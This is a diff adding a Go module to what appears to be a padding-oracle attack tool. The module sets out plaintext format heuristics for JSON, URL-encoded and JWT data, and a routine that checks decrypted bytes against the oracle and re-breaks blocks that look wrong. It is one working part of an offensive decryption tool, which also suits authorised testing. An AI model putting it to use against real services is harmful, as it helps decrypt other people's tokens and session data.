@@ -0,0 +1,111 @@
+package exploit
+
+import (
+	"context"
+	"fmt"
+	"strings"
+)
+
+// Format is the expected structure of plaintext (see Padre.Format).
+// characters typical for the format are probed first,
+// and recovered bytes that do not fit the format are verified by the oracle once more
+type Format struct {
+	name   string
+	likely []byte          // all byte values, typical characters first
+	valid  func(byte) bool // whether byte may appear in the format
+}
+
+func (f *Format) String() string {
+	return f.name
+}
+
+// supported formats
+var (
+	// JSON document: printable ASCII, whitespace and UTF-8 sequences
+	FormatJSON = &Format{
+		name:   "json",
+		likely: likelyFirst("\":,{}etaoinsrhldcumfpgwybvkxjqz0123456789_-. []ETAOINSRHLDCUMFPGWYBVKXJQZ/@+'"),
+		valid: func(b byte) bool {
+			return (b >= 0x20 && b < 0x7f) || b >= 0x80 || b == '\t' || b == '\n' || b == '\r'
+		},
+	}
+
+	// query string or form: key=value pairs separated with &, percent-encoded
+	FormatURLEncoded = &Format{
+		name:   "urlencoded",
+		likely: likelyFirst("=&etaoinsrhldcumfpgwybvkxjqz0123456789%+_-.ETAOINSRHLDCUMFPGWYBVKXJQZ~*"),
+		valid: func(b byte) bool {
+			return isAlphanumeric(b) || strings.IndexByte("=&%+_-.~*", b) >= 0
+		},
+	}
+
+	// JSON Web Token: base64url-encoded parts separated with dots
+	FormatJWT = &Format{
+		name:   "jwt",
+		likely: likelyFirst("eyJ.abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_"),
+		valid: func(b byte) bool {
+			return isAlphanumeric(b) || b == '-' || b == '_' || b == '.'
+		},
+	}
+)
+
+var formats = []*Format{FormatJSON, FormatURLEncoded, FormatJWT}
+
+// FormatByName returns format by its name (case-insensitive)
+func FormatByName(name string) (*Format, error) {
+	for _, f := range formats {
+		if strings.EqualFold(f.name, name) {
+			return f, nil
+		}
+	}
+	return nil, fmt.Errorf("unsupported format: %s", name)
+}
+
+func isAlphanumeric(b byte) bool {
+	return (b >= 'a' && b <= 'z') || (b >= 'A' && b <= 'Z') || (b >= '0' && b <= '9')
+}
+
+// positions of plaintext bytes that do not fit the format.
+// padding of the final block is not a part of the format
+func (f *Format) suspicious(plain []byte, final bool, padding Padding) []int {
+	if final {
+		if unpadded, ok := padding.Unpad(plain, len(plain)); ok {
+			plain = unpadded
+		}
+	}
+
+	var positions []int
+	for pos, b := range plain {
+		if !f.valid(b) {
+			positions = append(positions, pos)
+		}
+	}
+	return positions
+}
+
+// verifies decrypted block against the expected format (see Padre.Format).
+// intermediate bytes behind suspicious plaintext are checked with fresh probes,
+// and if any of them is wrong, the whole block is broken once again.
+// returns intermediate that is verified (or broken again)
+func (p *Padre) verifyFormat(ctx context.Context, cipherBlock, intermediate []byte, guess *plainGuess, final bool) ([]byte, error) {
+	suspicious := p.Format.suspicious(xorSlices(intermediate, guess.prev), final, p.padding())
+
+	for _, pos := range suspicious {
+		// not recovered (see ByteRange)
+		if pos < p.skipped(guess) {
+			continue
+		}
+
+		ok, err := p.verifyIntermediate(ctx, cipherBlock, intermediate, pos)
+		if err != nil {
+			return nil, err
+		}
+		if ok {
+			continue
+		}
+
+		p.log(logVerbose, "byte does not fit format and failed verification, breaking the block again", "pos", pos, "format", p.Format)
+		return p.breakCipher(ctx, cipherBlock, guess, nil)
+	}
+	return intermediate, nil
+}